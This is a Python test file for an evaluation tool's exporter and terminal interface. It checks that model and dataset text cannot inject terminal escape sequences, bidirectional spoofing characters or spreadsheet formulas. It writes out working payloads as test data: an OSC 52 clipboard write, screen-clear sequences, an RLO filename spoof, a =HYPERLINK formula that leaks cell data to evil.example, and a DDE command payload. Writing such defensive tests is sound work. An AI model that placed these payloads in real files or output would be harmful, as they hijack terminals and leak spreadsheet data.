"""Text from models and datasets is data: exports keep it exactly, terminal output defuses it."""

import asyncio
import csv
import json
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest
from textual.widgets import Input

from hbtui import cli
from hbtui.analysis.criteria_table import write_criteria_csv
from hbtui.core.dataset import load_jsonl
from hbtui.core.text import middle_cut, one_line, spreadsheet_cell, visible_controls, visible_line
from hbtui.render.conversation_markdown import conversation_markdown
from hbtui.render.export import write_csv, write_jsonl, write_run_folder
from hbtui.services import compute_report, plan_run
from hbtui.store import ReplyResult, ResultBatch, Store, VerdictResult
from hbtui.tui.screens.regrade import RegradeModal
from hbtui.tui.screens.run_actions import AskTextModal
from hbtui.tui.screens.runs import RunsScreen
from tests.conftest import CONSENSUS_SUBSET, MAIN_SUBSET, make_record, needs_shared, offline_settings, user_folder
from tests.conftest import write_jsonl as write_records
from tests.support.browse import open_conversation, open_run
from tests.support.browser_harness import browser_app
from tests.support.tui import screen_text, wait_for

HOSTILE = (
    "[bold red]not bold[/bold red] [link=https://evil.example]click[/link] "
    "\x1b[31mred\x1b[0m \x1b]52;c;ZXZpbA==\x07 \x1b]0;title\x07 "
    "שלום עולם مرحبا 👩‍⚕️🩺 " + "x" * 5000
)


async def hostile_run(db, data):

    settings = offline_settings(
        base_url="http://127.0.0.1:9/v1", model_test="m[bold]", model_grader="g", db_path=str(db)
    )
    async with await Store.open(db) as store:
        run_id = await plan_run(store, settings, load_jsonl(data), name="evil \x1b[31m[bold]name")
        rows = await store.pending_work(run_id)
        item = rows[0]
        now = time.time()
        await store.write_batch(
            ResultBatch(
                replies=[
                    ReplyResult(
                        item.conversation_id,
                        "generated",
                        now,
                        reply=HOSTILE,
                        reasoning="think " + HOSTILE,
                        finish_reason="stop",
                        attempts=1,
                        latency_ms=5.0,
                        prompt_tokens=3,
                        completion_tokens=4,
                    )
                ],
                verdicts=[
                    VerdictResult(
                        "met",
                        item.conversation_id,
                        0,
                        explanation=HOSTILE,
                        raw_output=json.dumps({"explanation": HOSTILE, "criteria_met": True}),
                        attempts=1,
                        latency_ms=5.0,
                        prompt_tokens=3,
                        completion_tokens=4,
                        graded_at=now,
                    )
                ],
            )
        )
        await store.refresh_summaries(run_id)
        await store.finish_run(run_id, "finished", report=await compute_report(store, run_id))
        return run_id


def test_jsonl_keeps_text_exactly_and_csv_shows_its_controls(tmp_path):
    data = write_records(tmp_path / "d.jsonl", [make_record("evil", [(HOSTILE, 5, ["axis:accuracy"])], user=HOSTILE)])
    db = tmp_path / "db.sqlite"
    run_id = asyncio.run(hostile_run(db, data))

    async def export():
        async with await Store.open(db) as store:
            await write_jsonl(store, run_id, tmp_path / "out.jsonl")
            await write_csv(store, run_id, tmp_path / "out.csv")

    asyncio.run(export())
    line = json.loads((tmp_path / "out.jsonl").read_text(encoding="utf-8"))
    assert line["completion"] == HOSTILE
    assert line["prompt"][0]["content"] == HOSTILE
    assert line["rubrics"][0]["criterion"] == HOSTILE and line["rubrics"][0]["explanation"] == HOSTILE
    assert line["reasoning"] == "think " + HOSTILE
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as handle:
        row = next(csv.DictReader(handle))
    # A CSV is read in terminals (`column -s, -t`, `less`) as much as in spreadsheets.
    assert row["criterion"] == visible_controls(HOSTILE) and row["explanation"] == visible_controls(HOSTILE)


def test_terminal_output_shows_escapes_as_text(tmp_path):
    data = write_records(tmp_path / "d.jsonl", [make_record("evil", [(HOSTILE, 5, [])], user=HOSTILE)])
    db = tmp_path / "db.sqlite"
    asyncio.run(hostile_run(db, data))
    for args in (["runs"], ["show", "latest"]):
        out = subprocess.run(
            [sys.executable, "-m", "hbtui", *args, "--db", str(db)], capture_output=True, text=True, check=True
        ).stdout
        assert "\x1b" not in out and "\x07" not in out
        assert "␛[31m[bold]name" in out


# A crafted dataset: every name it gives hbtui to print carries the sequences that, obeyed by a
# terminal, write the clipboard (OSC 52), set the window title, clear the screen, ring the bell.
OSC52 = "\x1b]52;c;ZXZpbA==\x07"
TITLE = "\x1b]0;owned\x07"
CLEAR = "\x1b[2J\x1b[H"
EVIL_THEME = f"care{OSC52}{CLEAR}"
EVIL_AXIS = f"accuracy{TITLE}\x9b2J"  # \x9b: the one-character CSI of C1
EVIL_ID = f"p{CLEAR}{OSC52}"
EVIL_FILE = f"data{TITLE}\x07.jsonl"
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # all but \t and \n


def raw_controls(text: str) -> list[str]:
    return sorted(set(RAW_CONTROL.findall(text)))


@pytest.fixture
def crafted(tmp_path, server, monkeypatch):
    for name in ("BASE_URL", "API_KEY", "MODEL_TEST", "MODEL_GRADER", "HBTUI_DB"):
        monkeypatch.delenv(name, raising=False)
    (tmp_path / ".env").write_text(f"BASE_URL={server.base_url}\nMODEL_TEST=test-model\nMODEL_GRADER=grader-model\n")
    monkeypatch.chdir(tmp_path)
    record = make_record(
        EVIL_ID,
        [
            ("[[MET]] Advises rest", 5, [f"axis:{EVIL_AXIS}"]),
            ("[[NOT_MET]] Mentions hydration", 3, [f"axis:{EVIL_AXIS}"]),
        ],
        theme=EVIL_THEME,
    )
    return write_records(tmp_path / EVIL_FILE, [record])


def run_cli(capsys, *args: str, db: str = "runs/hbtui.sqlite") -> tuple[int, str, str]:
    code = cli.main([*args, "--db", db])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_no_command_passes_a_crafted_dataset_s_controls_to_the_terminal(crafted, tmp_path, capsys):
    outputs = {"run": run_cli(capsys, "run", "--data", str(crafted))}
    outputs["runs"] = run_cli(capsys, "runs")
    outputs["show"] = run_cli(capsys, "show", "latest")
    outputs["export csv"] = run_cli(capsys, "export", "latest", "--format", "csv", "--out", "out.csv")
    outputs["export jsonl"] = run_cli(capsys, "export", "latest", "--out", "out.jsonl")
    assert {command: code for command, (code, _, _) in outputs.items()} == dict.fromkeys(outputs, 0)
    printed = {command: out + err for command, (_, out, err) in outputs.items()}
    for command, text in printed.items():
        assert raw_controls(text) == [], (command, text)
    assert "care␛]52;c;ZXZpbA==␇␛[2J␛[H" in printed["show"]  # the theme, shown as text
    assert "accuracy␛]0;owned␇\ufffd2J" in printed["show"]  # the axis
    assert "data␛]0;owned␇␇.jsonl" in printed["run"]  # the file, in the run's name

    folder = next(path for path in (tmp_path / "runs").iterdir() if path.is_dir())
    description = (folder / "description.md").read_text(encoding="utf-8")
    csv_text = (tmp_path / "out.csv").read_text(encoding="utf-8")
    assert raw_controls(description) == [] and raw_controls(csv_text) == []
    assert "theme:care␛]52;c;ZXZpbA==␇␛[2J␛[H" in description and "p␛[2J␛[H␛]52" in csv_text
    # JSON keeps the text exactly: it escapes control characters itself.
    exported = json.loads((tmp_path / "out.jsonl").read_text(encoding="utf-8"))
    assert exported["prompt_id"] == EVIL_ID and f"theme:{EVIL_THEME}" in exported["example_tags"]
    _code, shown, _ = run_cli(capsys, "show", "latest", "--json")
    assert raw_controls(shown) == [] and f"theme:{EVIL_THEME}" in json.loads(shown)["metrics"]


# Bad input naming crafted text: one line on stderr, exit 2, no raw control character, and the
# database as it was. {data} is the crafted file, {repeated} it twice (its prompt_id repeats).
BAD_INPUTS = {
    "missing data file": ["run", "--data", f"gone{CLEAR}\nhbtui: a forged line.jsonl"],
    "repeated prompt_id": ["run", "--data", "{repeated}"],
    "record without rubrics": ["run", "--data", "{no_rubrics}"],
    "unknown run": ["show", f"run{OSC52}"],
    "resume of an unknown run": ["resume", f"x{CLEAR}\nhbtui: forged"],
    "export into a missing folder": ["export", "latest", "--out", f"no{TITLE}/out.csv"],
    "a folder as the database": ["runs", "--db", f"folder{OSC52}"],
}


@pytest.mark.parametrize("case", BAD_INPUTS)
def test_bad_input_naming_crafted_text_is_one_escaped_line(crafted, tmp_path, capsys, case):
    record = json.loads(crafted.read_text())
    files = {
        "data": str(crafted),
        "repeated": str(write_records(tmp_path / f"twice{OSC52}.jsonl", [record] * 2)),
        "no_rubrics": str(write_records(tmp_path / f"bare{TITLE}.jsonl", [{**record, "rubrics": []}])),
    }
    (tmp_path / f"folder{OSC52}").mkdir()
    assert run_cli(capsys, "run", "--data", str(crafted))[0] == 0
    db = tmp_path / "runs" / "hbtui.sqlite"
    before = db.read_bytes()
    args = [arg.format(**files) if arg.startswith("{") else arg for arg in BAD_INPUTS[case]]
    code, out, err = run_cli(capsys, *args) if "--db" not in args else run_cli(capsys, *args[:-2], db=args[-1])
    assert code == 2 and out == "", (out, err)
    assert err.startswith("hbtui: error: ") and err.count("\n") == 1, err
    assert raw_controls(err) == [], err
    assert "␛" in err or "\\x1b" in err  # what it names is there, shown as text (or as Python writes it)
    assert db.read_bytes() == before


# Bidirectional controls and zero-width characters: invisible, yet they reorder what is shown
# (U+202E makes "txt.exe" read "exe.txt") or make two ids that look alike differ.
RLO, PDF, LRI, PDI, ZWSP, ZWJ, BOM = "\u202e", "\u202c", "\u2066", "\u2069", "\u200b", "\u200d", "\ufeff"
BIDI_CONTROLS = [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F)]
ZERO_WIDTH = [ZWSP, "\u200c", ZWJ, "\u2060", BOM]
HIDDEN = re.compile("[\u200e\u200f\u202a-\u202e\u2066-\u2069\u200b-\u200d\u2060\ufeff]")
# Joiners drawing one emoji of two or three: the first two as the real records hold them (main and
# consensus subsets), then one with a skin tone and a family.
EMOJI_SEQUENCES = ["🚴\u200d♂️", "🤦\u200d♀️", "👩🏽\u200d⚕️", "👨\u200d👩\u200d👧"]


def hidden_characters(text: str) -> list[str]:
    return sorted({f"U+{ord(c):04X}" for c in HIDDEN.findall(text)})


def shown(character: str) -> str:
    return f"⟨U+{ord(character):04X}⟩"


@pytest.mark.parametrize("character", BIDI_CONTROLS + ZERO_WIDTH, ids=lambda c: f"U+{ord(c):04X}")
def test_names_and_one_line_cells_show_every_bidi_and_zero_width_character(character):
    name = f"run{character}name"
    for helper in (visible_line, one_line, lambda text: middle_cut(text, 40)):
        assert helper(name) == f"run{shown(character)}name"


@pytest.mark.parametrize("character", BIDI_CONTROLS, ids=lambda c: f"U+{ord(c):04X}")
def test_running_text_shows_every_bidi_control(character):
    assert visible_controls(f"a reply{character} 🚴\u200d♂️") == f"a reply{shown(character)} 🚴\u200d♂️"


def test_running_text_keeps_a_joiner_between_emoji_and_shows_stray_zero_width_characters():
    for sequence in EMOJI_SEQUENCES:
        assert visible_controls(f"Great! {sequence} Keep going") == f"Great! {sequence} Keep going"
        assert one_line(sequence) == sequence.replace(ZWJ, shown(ZWJ))  # in a name or a cell: shown
    stray = f"{BOM}an {ZWSP}Info{ZWJ}Sheet, {ZWJ}🚴 and 🚴{ZWJ}{ZWJ}♂️, 🚴{ZWJ} x"
    assert (
        visible_controls(stray)
        == "⟨U+FEFF⟩an ⟨U+200B⟩Info⟨U+200D⟩Sheet, ⟨U+200D⟩🚴 and 🚴⟨U+200D⟩⟨U+200D⟩♂️, 🚴⟨U+200D⟩ x"
    )


def every_string(value) -> list[str]:
    """Every string a parsed JSON record holds, wherever it is."""
    if isinstance(value, str):
        return [value]
    items = value.values() if isinstance(value, dict) else value if isinstance(value, list) else []
    return [text for item in items for text in every_string(item)]


@needs_shared
def test_the_real_records_keep_their_emoji_and_show_their_stray_zero_width_space():
    # A prompt, and the reference completions the app shows beside the ideal one.
    texts = [
        text
        for path in (MAIN_SUBSET, CONSENSUS_SUBSET)
        for record in load_jsonl(path).records
        for text in every_string(json.loads(record.raw))
        if HIDDEN.search(text)
    ]
    text = "\n".join(texts)
    assert "🚴\u200d♂️" in text and "🤦\u200d♀️" in text and f"an {ZWSP}Informed" in text
    shown_text = visible_controls(text)
    assert "🚴\u200d♂️" in shown_text and "🤦\u200d♀️" in shown_text  # drawn as the record means
    assert hidden_characters(shown_text) == ["U+200D"] and "an ⟨U+200B⟩Informed" in shown_text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"], ids=repr)
def test_a_text_cell_that_would_start_a_formula_gets_a_leading_quote(start):
    assert spreadsheet_cell(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"


def test_numbers_and_ordinary_text_stay_as_they_are_in_a_spreadsheet():
    for cell in (-5.0, -1, 0.25, "", "Advises rest", " =1", "'=1"):
        assert spreadsheet_cell(cell) == cell


# A dataset record as HealthBench writes them, spoofing its names: an RLO that makes them read
# backwards, a zero-width space and a BOM that make them differ from what they look like.
SPOOF_ID = f"p{ZWSP}1{RLO}dlrow"
SPOOF_THEME = f"care{RLO}txt.exe{PDF}"
SPOOF_AXIS = f"accuracy{LRI}x{PDI}{BOM}"
SPOOF_NAME = f"run{RLO}{ZWSP}name"


def test_every_printed_output_shows_bidi_and_zero_width_characters_of_a_dataset(server, tmp_path, monkeypatch, capsys):
    user_folder(tmp_path, monkeypatch, server)
    record = make_record(
        SPOOF_ID,
        [("[[MET]] Advises rest", 5, [f"axis:{SPOOF_AXIS}"]), ("[[NOT_MET]] Mentions hydration", 3, [])],
        theme=SPOOF_THEME,
    )
    data = write_records(tmp_path / f"data{RLO}lnosj.jsonl", [record])
    outputs = {"run": run_cli(capsys, "run", "--data", str(data), "--name", SPOOF_NAME)}
    outputs["runs"] = run_cli(capsys, "runs")
    outputs["show"] = run_cli(capsys, "show", "latest")
    outputs["export csv"] = run_cli(capsys, "export", "latest", "--format", "csv", "--out", "out.csv")
    outputs["export jsonl"] = run_cli(capsys, "export", "latest", "--out", "out.jsonl")
    assert {command: code for command, (code, _, _) in outputs.items()} == dict.fromkeys(outputs, 0)
    printed = {command: out + err for command, (_, out, err) in outputs.items()}
    for command, text in printed.items():
        assert hidden_characters(text) == [], (command, text)
    assert "run⟨U+202E⟩⟨U+200B⟩name" in printed["runs"] and "run⟨U+202E⟩⟨U+200B⟩name" in printed["show"]
    assert "care⟨U+202E⟩txt.exe⟨U+202C⟩" in printed["show"]  # the theme
    assert "accuracy⟨U+2066⟩x⟨U+2069⟩⟨U+FEFF⟩" in printed["show"]  # the axis

    folder = next(path for path in (tmp_path / "runs").iterdir() if path.is_dir())
    description = (folder / "description.md").read_text(encoding="utf-8")
    assert hidden_characters(description) == []
    assert "# run⟨U+202E⟩⟨U+200B⟩name" in description and "theme:care⟨U+202E⟩txt.exe⟨U+202C⟩" in description
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert hidden_characters(json.dumps(rows, ensure_ascii=False)) == []
    assert (
        rows[0]["prompt_id"] == "p⟨U+200B⟩1⟨U+202E⟩dlrow"
        and rows[0]["tags"] == "axis:accuracy⟨U+2066⟩x⟨U+2069⟩⟨U+FEFF⟩"
    )
    # JSONL keeps the text exactly, and results.jsonl as well.
    for jsonl in (tmp_path / "out.jsonl", folder / "results.jsonl"):
        exported = json.loads(jsonl.read_text(encoding="utf-8"))
        assert exported["prompt_id"] == SPOOF_ID and f"theme:{SPOOF_THEME}" in exported["example_tags"]
        assert exported["rubrics"][0]["tags"] == [f"axis:{SPOOF_AXIS}"]


def test_a_mistyped_argument_is_shown_not_obeyed(capsys):
    with pytest.raises(SystemExit) as stopped:
        cli.main(["runs", f"{RLO}\x1b[2J"])
    assert stopped.value.code == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "⟨U+202E⟩␛[2J" in err
    assert hidden_characters(err) == [] and raw_controls(err) == []


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click here")'
EXPLANATIONS = [
    f"The reply cheers them on {EMOJI_SEQUENCES[0]} and{ZWJ}stops{RLO} here",
    "@SUM(1+1) the penalty applies",
    "-2+3 the reply recommends a dose",
    "\tcmd|' /C calc'!A0",
]


FORMULA_RUN = f"formulas{RLO}{ZWSP}"
FORMULA_ID = f"formula {EMOJI_SEQUENCES[3]}"
FORMULA_MODEL = f"model {EMOJI_SEQUENCES[2]}"  # a name: its joiner is shown, as a zero-width character
FORMULA_GRADER = f"grader{RLO}"


async def formula_run(db: Path, data: Path) -> int:
    """A run stored as the engine stores one: its criteria and its grader's explanations as a
    crafted record and a hostile grader would give them; its conversation scores -2."""
    settings = offline_settings(
        base_url="http://127.0.0.1:9/v1", model_test=FORMULA_MODEL, model_grader=FORMULA_GRADER, db_path=str(db)
    )
    async with await Store.open(db) as store:
        run_id = await plan_run(store, settings, load_jsonl(data), name=FORMULA_RUN)
        item = (await store.pending_work(run_id))[0]
        now = time.time()
        met = [False, True, True, True]  # the positive criterion missed, every penalty triggered
        await store.write_batch(
            ResultBatch(
                replies=[
                    ReplyResult(
                        item.conversation_id,
                        "generated",
                        now,
                        reply=f"=1+1 {RLO}reply {EMOJI_SEQUENCES[1]}",
                        finish_reason="stop",
                        attempts=1,
                        latency_ms=5.0,
                        prompt_tokens=3,
                        completion_tokens=4,
                    )
                ],
                verdicts=[
                    VerdictResult(
                        "met" if met[idx] else "not_met",
                        item.conversation_id,
                        idx,
                        explanation=why,
                        raw_output=json.dumps({"explanation": why, "criteria_met": met[idx]}),
                        attempts=1,
                        latency_ms=5.0,
                        prompt_tokens=3,
                        completion_tokens=4,
                        graded_at=now,
                    )
                    for idx, why in enumerate(EXPLANATIONS)
                ],
            )
        )
        await store.refresh_summaries(run_id)
        await store.finish_run(run_id, "finished", report=await compute_report(store, run_id))
        return run_id


@pytest.fixture
def formula_db(tmp_path) -> tuple[Path, int]:
    criteria = [
        (f"Advises rest {RLO}gnorw{PDF}", 5, [f"axis:accuracy{ZWSP}"]),
        (HYPERLINK, -5, ["axis:accuracy"]),
        ("+Recommends a dose", -3, ["axis:completeness"]),
        ("@Claims a diagnosis", -2, ["axis:completeness"]),
    ]
    data = write_records(
        tmp_path / "d.jsonl", [make_record(FORMULA_ID, criteria, theme=f"care{RLO}", user=f"{ZWSP}hi {HYPERLINK}")]
    )
    db = tmp_path / "db.sqlite"
    return db, asyncio.run(formula_run(db, data))


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_the_csv_export_neutralises_formulas_and_writes_negative_numbers_as_numbers(formula_db, tmp_path, capsys):
    db, run_id = formula_db
    code, _, _ = run_cli(
        capsys, "export", str(run_id), "--format", "csv", "--out", str(tmp_path / "out.csv"), db=str(db)
    )
    assert code == 0
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["criterion"] for row in rows] == [
        "Advises rest ⟨U+202E⟩gnorw⟨U+202C⟩",
        "'" + HYPERLINK,
        "'+Recommends a dose",
        "'@Claims a diagnosis",
    ]
    assert rows[0]["tags"] == "axis:accuracy⟨U+200B⟩"
    assert [row["explanation"] for row in rows] == [
        f"The reply cheers them on {EMOJI_SEQUENCES[0]} and⟨U+200D⟩stops⟨U+202E⟩ here",  # the emoji drawn
        "'@SUM(1+1) the penalty applies",
        "'-2+3 the reply recommends a dose",
        "'\tcmd|' /C calc'!A0",
    ]
    # The numbers a spreadsheet sums: points of a penalty and the conversation's score, negative.
    assert [row["points"] for row in rows] == ["5", "-5", "-3", "-2"]
    assert {row["conversation_score"] for row in rows} == {"-2.0"}
    numeric = {"points", "conversation_score"}
    for row in rows:
        for column, cell in row.items():
            assert column in numeric or not cell.startswith(FORMULA_START), (column, cell)
    cells = json.dumps(rows, ensure_ascii=False).replace(EMOJI_SEQUENCES[0], "")
    assert hidden_characters(cells) == []  # but the joiner of the emoji


def test_the_criteria_csv_neutralises_formulas_and_keeps_points_as_numbers(formula_db, tmp_path):
    db, run_id = formula_db

    async def stats():
        async with await Store.open(db) as store:
            return await store.criteria_stats(run_id)

    write_criteria_csv(tmp_path / "criteria.csv", asyncio.run(stats()))
    with open(tmp_path / "criteria.csv", newline="", encoding="utf-8") as handle:
        rows = {row["criterion"]: row for row in csv.DictReader(handle)}
    assert set(rows) == {
        "Advises rest ⟨U+202E⟩gnorw⟨U+202C⟩",
        "'" + HYPERLINK,
        "'+Recommends a dose",
        "'@Claims a diagnosis",
    }
    assert rows["'" + HYPERLINK]["points"] == "-5" and rows["'+Recommends a dose"]["points"] == "-3"
    assert rows["Advises rest ⟨U+202E⟩gnorw⟨U+202C⟩"]["tags"] == "axis:accuracy⟨U+200B⟩"


async def test_the_app_shows_bidi_and_zero_width_characters_and_keeps_emoji(formula_db):
    db, run_id = formula_db
    app = browser_app(db)
    async with app.run_test(size=(160, 48)) as pilot:
        await open_run(pilot, run_id)
        await pilot.press("2")
        listed = screen_text(app)
        assert "⟨U+200B⟩hi" in listed and hidden_characters(listed) == []  # the prompt's preview
        await open_conversation(pilot, "enter")
        seen = []
        for _ in EXPLANATIONS:
            seen.append(screen_text(app))
            await pilot.press("j")
            await pilot.pause()
        text = "\n".join(seen)
        assert "⟨U+202E⟩reply" in text and "Advises rest ⟨U+202E⟩gnorw⟨U+202C⟩" in text and HYPERLINK in text
        assert f"cheers them on {EMOJI_SEQUENCES[0]} and⟨U+200D⟩stops⟨U+202E⟩ here" in text  # the explanation
        assert f"reply {EMOJI_SEQUENCES[1]}" in text
        assert hidden_characters(text.replace(EMOJI_SEQUENCES[0], "").replace(EMOJI_SEQUENCES[1], "")) == []
        await pilot.press("escape", "V")
        await wait_for(pilot, lambda: "Recommends a dose" in screen_text(app), what="the criteria view")
        assert "[axis:accuracy⟨U+200B⟩]" in screen_text(app) and hidden_characters(screen_text(app)) == []
        # The fields that start from a run's own values show them as every list does.
        await pilot.press("escape", "a")
        await wait_for(pilot, lambda: isinstance(app.screen, RegradeModal), what="the regrade dialog")
        assert app.screen.query_one("#regrade-model_grader", Input).value == "grader⟨U+202E⟩"
        assert hidden_characters(screen_text(app)) == []
        await pilot.press("escape", "escape")
        await wait_for(
            pilot, lambda: "formulas⟨U+202E⟩⟨U+200B⟩" in screen_text(app), what="the runs list"
        )  # whole at 160
        assert isinstance(app.screen, RunsScreen) and hidden_characters(screen_text(app)) == []
        await pilot.press("E")
        await wait_for(pilot, lambda: isinstance(app.screen, AskTextModal), what="the rename dialog")
        assert app.screen.query_one(Input).value == "formulas⟨U+202E⟩⟨U+200B⟩"
        assert hidden_characters(screen_text(app)) == []


def test_description_md_shows_the_names_of_a_run_with_their_hidden_characters(formula_db, tmp_path):
    db, run_id = formula_db

    async def folder():
        async with await Store.open(db) as store:
            return await write_run_folder(store, await store.get_run(run_id), tmp_path / "runs")

    description = (asyncio.run(folder()) / "description.md").read_text(encoding="utf-8")
    assert "# formulas⟨U+202E⟩⟨U+200B⟩" in description
    assert "model under test: model 👩🏽⟨U+200D⟩⚕️ at" in description and "grader: grader⟨U+202E⟩ at" in description
    assert hidden_characters(description) == []


def test_a_conversation_copied_as_markdown_shows_its_ids_and_keeps_the_emoji_of_its_text(formula_db):
    db, run_id = formula_db

    async def detail():
        async with await Store.open(db) as store:
            return await store.conversation_detail((await store.conversation_ids(run_id))[0])

    text = conversation_markdown(asyncio.run(detail()), run_id)
    assert "- prompt_id: `formula 👨⟨U+200D⟩👩⟨U+200D⟩👧`" in text and "- theme: care⟨U+202E⟩" in text
    assert f"⟨U+202E⟩reply {EMOJI_SEQUENCES[1]}" in text and f"cheers them on {EMOJI_SEQUENCES[0]} and⟨U+200D⟩" in text
    assert hidden_characters(text.replace(EMOJI_SEQUENCES[0], "").replace(EMOJI_SEQUENCES[1], "")) == []
